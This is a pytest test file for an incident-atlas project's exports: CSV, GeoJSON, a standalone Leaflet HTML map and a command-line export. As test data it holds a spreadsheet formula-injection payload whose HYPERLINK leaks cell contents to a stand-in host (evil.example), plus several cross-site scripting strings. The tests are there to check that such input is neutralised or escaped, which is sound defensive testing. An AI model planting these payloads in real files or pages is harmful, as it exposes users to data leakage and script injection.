"""Exports: CSV (formula injection), GeoJSON, the standalone HTML map, and the export command."""

from __future__ import annotations

import io
import json
import os
import re
import subprocess
import sys
from argparse import Namespace

import pandas as pd
import pytest
from conftest import OWASP_FORMULA_PREFIXES, PROJECT, make_incident

from incidents.cli import run_export as run_export_cli
from incidents.export import (
    ExportError,
    export_filename,
    neutralise_cell,
    to_csv_bytes,
    to_geojson,
    to_geojson_bytes,
    to_standalone_html,
)
from incidents.filtering import apply_filters
from incidents.schema import COLUMNS, conform
from incidents.urlstate import ViewState, parse_query_string


def read_csv(data: bytes) -> pd.DataFrame:
    return pd.read_csv(io.BytesIO(data), encoding="utf-8-sig", dtype=str, keep_default_na=False)


# --- CSV ----------------------------------------------------------------------------------------

@pytest.mark.parametrize("prefix", OWASP_FORMULA_PREFIXES)
@pytest.mark.parametrize("column", ["incident_id", "location", "actor", "description", "claims"])
def test_csv_neutralises_formula_cells(prefix, column):
    payload = f'{prefix}HYPERLINK("https://evil.example/?"&A1,"click")'
    row = make_incident(incident_id="t:1")
    row[column] = payload
    out = read_csv(to_csv_bytes(conform(pd.DataFrame([row]))))
    cell = out.at[0, column]
    assert cell == "'" + payload
    assert not cell.startswith(OWASP_FORMULA_PREFIXES)


def test_csv_keeps_numbers_and_harmless_text(small_frame):
    out = read_csv(to_csv_bytes(small_frame))
    assert out["longitude"].iloc[0] == "-7.94706"  # a negative number is not a formula
    assert out["incident_id"].tolist() == small_frame["incident_id"].tolist()
    assert out.at[0, "location"] == "Faladié, Bamako"
    assert neutralise_cell("Kidal") == "Kidal"
    assert neutralise_cell("") == ""


def test_csv_round_trip_counts_columns_and_unknowns(small_frame):
    data = to_csv_bytes(small_frame)
    assert data.startswith(b"\xef\xbb\xbf")  # BOM: Excel reads UTF-8
    out = pd.read_csv(io.BytesIO(data), encoding="utf-8-sig")
    assert len(out) == len(small_frame)
    assert tuple(out.columns) == COLUMNS
    assert out["fatalities_best"].isna().sum() == small_frame["fatalities_best"].isna().sum()
    assert out.loc[out["incident_id"] == "t:3", "date_end"].item() == "2023-03-31"
    # the description with markup survives as text
    assert "<script>alert(1)</script> raid" in out["description"].tolist()


def test_csv_of_empty_frame_has_header_only(small_frame):
    out = read_csv(to_csv_bytes(small_frame.iloc[0:0]))
    assert len(out) == 0 and tuple(out.columns) == COLUMNS


# --- GeoJSON ------------------------------------------------------------------------------------


def test_geojson_is_a_valid_feature_collection(small_frame):
    doc = json.loads(to_geojson_bytes(small_frame))
    assert doc["type"] == "FeatureCollection"
    assert len(doc["features"]) == len(small_frame)
    for feature, (_, row) in zip(doc["features"], small_frame.iterrows(), strict=True):
        assert feature["type"] == "Feature"
        assert feature["id"] == row["incident_id"] == feature["properties"]["incident_id"]
        assert set(feature["properties"]) == set(COLUMNS) - {"latitude", "longitude"}
        if pd.isna(row["latitude"]):
            assert feature["geometry"] is None
        else:
            lon, lat = feature["geometry"]["coordinates"]  # RFC 7946: longitude first
            assert feature["geometry"]["type"] == "Point"
            assert (lat, lon) == (pytest.approx(row["latitude"]), pytest.approx(row["longitude"]))


def test_geojson_unknown_is_null_and_lists_are_json(small_frame):
    features = {f["id"]: f for f in to_geojson(small_frame)["features"]}
    props = features["t:4"]["properties"]
    assert props["fatalities_best"] is None
    assert props["imported_at"] is None
    assert props["date_start"] == "2022-01-01" and props["date_precision"] == "year"
    assert props["claims"][0]["claimant"] == "JNIM"
    assert features["t:1"]["properties"]["fatalities_best"] == 12
    assert features["t:5"]["properties"]["geo_precision"] is None
    json.dumps(to_geojson(small_frame), allow_nan=False)  # no NaN anywhere


# --- standalone HTML ----------------------------------------------------------------------------


def test_html_has_timeline_slider_and_every_mapped_incident(small_frame):
    page = to_standalone_html(small_frame, ViewState(), title="Sahel export")
    assert "L.timeline(" in page and "L.timelineSliderControl(" in page
    assert "vendor/leaflet.timeline-1.6.0/leaflet.timeline.js" in page  # inlined, named
    assert "<title>Sahel export</title>" in page
    for incident_id in ("t:1", "t:2", "t:3", "t:4", "t:6"):
        assert f'"{incident_id}"' in page
    assert '"t:5"' not in page  # not mapped: told in a notice instead
    assert "not on the map" in page
    assert "Incident data: test" in page  # attribution of the dataset


def test_html_escapes_markup_from_data(small_frame):
    hostile = conform(pd.DataFrame([
        make_incident(incident_id="x:1", description="<script>alert(1)</script>",
                      location="</script><img src=x onerror=alert(2)>",
                      actor="<b onmouseover=alert(3)>", dataset="<i>evil</i>"),
    ]))
    page = to_standalone_html(hostile, ViewState(), title="<script>alert(4)</script>")
    for raw in ("<script>alert(1)", "<img src=x", "<b onmouseover", "<script>alert(4)",
                "<i>evil</i>"):
        assert raw not in page
    assert "&lt;script&gt;alert(4)&lt;/script&gt;" in page  # the <title>
    assert "textContent" in page and "innerHTML" not in page.split("ia_export")[1][:5000]


def test_html_uses_view_and_needs_no_network_but_for_tiles(small_frame):
    view = parse_query_string("lat=14.1&lon=-1.6&zoom=7&basemap=osm&country=ML").state
    page = to_standalone_html(apply_filters(small_frame, view.filters), view)
    assert "[14.1, -1.6]" in page and "tile.openstreetmap.org" in page
    assert "bootstrap" not in page and "jquery" not in page.lower() and "moment" not in page
    assert "ML" in page
    # Nothing is loaded by URL: scripts, styles and their images are in the page.
    assert not re.search(r"<(script|link|img)\b[^>]*\b(src|href)=", page)
    assert "data:image/png;base64," in page  # Leaflet's images, inlined with its CSS
    assert "Basemap tiles need internet; showing offline outlines" in page
    assert "only the basemap tiles need it" in page


def test_html_on_the_offline_basemap_has_no_tile_layer(small_frame):
    page = to_standalone_html(small_frame, ViewState(basemap="offline"))
    assert "L.tileLayer" not in page and '"always"' in page and "Bamako" in page


def test_html_of_an_empty_set_still_opens(small_frame):
    page = to_standalone_html(small_frame.iloc[0:0])
    assert "L.map(" in page and "L.timeline(" not in page


def test_export_filename():
    view = parse_query_string("start=2024-01-01&end=2024-12-31&country=ML").state
    assert export_filename("csv", view) == "incident-atlas_2024-01-01_2024-12-31_ML.csv"
    assert export_filename("geojson") == "incident-atlas.geojson"


# --- the command line ---------------------------------------------------------------------------


QUERY = "start=2020-01-01&country=ML&type=battle,attack,bogus"


@pytest.fixture
def store_url(seeded_sqlite_url, monkeypatch):
    """The bundled data in a temporary SQLite store, with no public-view setting."""
    monkeypatch.delenv("INCIDENTS_PUBLIC_PRECISION", raising=False)
    monkeypatch.delenv("INCIDENTS_PUBLIC_HIDE", raising=False)
    return seeded_sqlite_url


@pytest.mark.parametrize("fmt", ["csv", "geojson", "html"])
def test_cli_exports_what_the_query_selects(fmt, store_url, tmp_path, capsys):
    out = tmp_path / f"out.{fmt}"
    args = Namespace(format=fmt, query=QUERY, out=str(out), database_url=store_url)
    assert run_export_cli(args) == 0

    from incidents import load_incidents

    expected = apply_filters(load_incidents(store_url), parse_query_string(QUERY).state.filters)
    assert 10 < len(expected) < 4000
    printed = capsys.readouterr()
    assert f"{len(expected):,} incidents exported as {fmt}" in printed.out
    assert "'type': unknown event types ignored" in printed.err  # the notice of "bogus"
    if fmt == "csv":
        assert sorted(read_csv(out.read_bytes())["incident_id"]) == sorted(expected["incident_id"])
    elif fmt == "geojson":
        ids = [f["id"] for f in json.loads(out.read_bytes())["features"]]
        assert sorted(ids) == sorted(expected["incident_id"])
    else:
        assert f"{len(expected):,} incidents" in out.read_text(encoding="utf-8")


def test_cli_applies_the_public_view_from_the_environment(store_url, tmp_path, monkeypatch):
    monkeypatch.setenv("INCIDENTS_PUBLIC_PRECISION", "admin1")
    monkeypatch.setenv("INCIDENTS_PUBLIC_HIDE", "sources,description")
    out = tmp_path / "public.geojson"
    run_export_cli(Namespace(format="geojson", query="", out=str(out), database_url=store_url))
    for feature in json.loads(out.read_bytes())["features"]:
        props = feature["properties"]
        assert props["sources"] is None and props["description"] is None
        if feature["geometry"] is not None:
            assert props["geo_precision"] in ("admin1", "country")


def test_cli_reports_an_unwritable_path(store_url, tmp_path):
    args = Namespace(format="csv", query="", out=str(tmp_path / "no" / "such" / "dir.csv"),
                     database_url=store_url)
    with pytest.raises(ExportError, match="cannot write"):
        run_export_cli(args)


def test_cli_end_to_end(store_url, tmp_path):
    out = tmp_path / "cli.csv"
    env = {k: v for k, v in os.environ.items() if not k.startswith("INCIDENTS_")}
    done = subprocess.run(
        [sys.executable, "-m", "incidents", "--database-url", store_url, "export",
         "--format", "csv", "--query", "country=BF", "--out", str(out)],
        check=False, cwd=PROJECT, env=env, capture_output=True, text=True, timeout=120,
    )
    assert done.returncode == 0, done.stderr
    frame = read_csv(out.read_bytes())
    assert set(frame["country"]) == {"BF"} and len(frame) > 1
    assert f"{len(frame):,} incidents exported as csv" in done.stdout
